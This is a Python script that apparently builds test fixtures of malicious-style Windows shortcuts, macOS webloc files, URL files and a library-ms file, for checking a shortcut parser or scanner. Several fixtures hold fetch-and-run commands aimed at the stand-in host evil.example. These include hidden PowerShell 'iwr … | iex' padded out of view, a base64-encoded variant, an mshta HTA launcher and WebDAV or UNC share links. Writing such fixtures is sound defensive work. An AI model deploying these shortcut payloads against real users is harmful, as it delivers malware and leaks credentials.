#!/usr/bin/python3
"""Makes the shortcuts beside it, all of our own invention. Shell links are put together by [MS-SHLLINK] and looked at with `lnkinfo` (Debian's
liblnk-utils), which must agree; binary property lists come from plistlib."""
import base64
import plistlib
import struct
import subprocess
from pathlib import Path

HERE = Path(__file__).parent
CLSID = bytes.fromhex("0114020000000000c000000000000046")


def text(value):
    return struct.pack("<H", len(value)) + value.encode("utf-16le")


def item(data):
    return struct.pack("<H", len(data) + 2) + data


def file_item(kind, name):
    data = bytes([kind, 0]) + bytes(10) + name.encode("cp932") + b"\0"
    return item(data + b"\0" * (len(data) % 2))


def link(name, items=(), info=b"", strings=None, environment=None):
    strings = strings or {}
    flags = 0x80 | (1 if items else 0) | (2 if info else 0)
    order = [("name", 4), ("relative", 8), ("directory", 0x10), ("arguments", 0x20), ("icon", 0x40)]
    body = b""
    for key, flag in order:
        if key in strings:
            flags |= flag
            body += text(strings[key])
    if environment:
        flags |= 0x200
        body += struct.pack("<II", 0x314, 0xA0000001) + environment.encode().ljust(260, b"\0") + environment.encode("utf-16le").ljust(520, b"\0")
    header = struct.pack("<I", 0x4C) + CLSID + struct.pack("<II", flags, 0x20) + bytes(24) + struct.pack("<IIIHHII", 0, 0, 1, 0, 0, 0, 0)
    listed = b"".join(items) + b"\0\0" if items else b""
    whole = header + (struct.pack("<H", len(listed)) + listed if items else b"") + info + body + b"\0\0\0\0"
    (HERE / name).write_bytes(whole)
    print(subprocess.run(["lnkinfo", str(HERE / name)], capture_output=True, text=True).stdout)


def local_info(path):
    volume = struct.pack("<IIII", 17, 3, 0, 16) + b"\0"
    base = path.encode("cp932") + b"\0"
    start = 28 + len(volume)
    return struct.pack("<IIIIIII", start + len(base) + 1, 28, 1, 28, start, 0, start + len(base)) + volume + base + b"\0"


def network_info(share, suffix):
    name = share.encode() + b"\0"
    network = struct.pack("<IIIII", 20 + len(name), 2, 20, 0, 0x20000) + name
    end = suffix.encode() + b"\0"
    return struct.pack("<IIIIIII", 28 + len(network) + len(end), 28, 2, 0, 0, 28, 28 + len(network)) + network + end


COMPUTER = item(b"\x1f\x50" + bytes.fromhex("e04fd020ea3a6910a2d808002b30309d"))
DRIVE = item(b"\x2fC:\\" + bytes(19))
powershell = [COMPUTER, DRIVE, file_item(0x31, "Windows"), file_item(0x31, "System32"), file_item(0x32, "powershell.exe")]
command = "iwr https://evil.example/a.ps1 | iex"
link("invoice.pdf.lnk", powershell, local_info("C:\\Windows\\System32\\powershell.exe"), {"name": "PDF", "arguments": " " * 260 + f"-w hidden -c {command}", "icon": "C:\\Program Files\\a.ico"})
encoded = base64.b64encode(command.encode("utf-16le")).decode()
link("encoded.lnk", (), local_info("C:\\Windows\\System32\\cmd.exe"), {"arguments": f"/c powershell -nop -enc {encoded}"})
link("share.lnk", (), network_info("\\\\evil.example@SSL@8443\\DavWWWRoot", "invoice.exe"))
link("environment.lnk", (), b"", {"arguments": "https://evil.example/x.hta"}, "%windir%\\System32\\mshta.exe")
link("address.lnk", [item(b"\x61\x80" + struct.pack("<H", 0) + "https://evil.example/item".encode("utf-16le") + b"\0\0")])

(HERE / "binary.webloc").write_bytes(plistlib.dumps({"URL": "https://evil.example/binary?a=1"}, fmt=plistlib.FMT_BINARY))
(HERE / "binary-japanese.webloc").write_bytes(plistlib.dumps({"Title": "銀行", "URL": "https://evil.example/" + "long/" * 20}, fmt=plistlib.FMT_BINARY))
(HERE / "utf16.url").write_bytes("[InternetShortcut]\r\nURL=https://evil.example/utf16\r\n".encode("utf-16"))
(HERE / "cp932.url").write_bytes("[InternetShortcut]\r\nURL=file://192.0.2.7/共有/請求書.exe\r\nIconFile=\\\\192.0.2.7\\icon\\a.ico\r\n".encode("cp932"))
(HERE / "documents.library-ms").write_text(
    '<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
    "<searchConnectorDescription><simpleLocation><url>\\\\evil.example\\share\\files</url></simpleLocation></searchConnectorDescription>"
    "</searchConnectorDescriptionList></libraryDescription>"
)
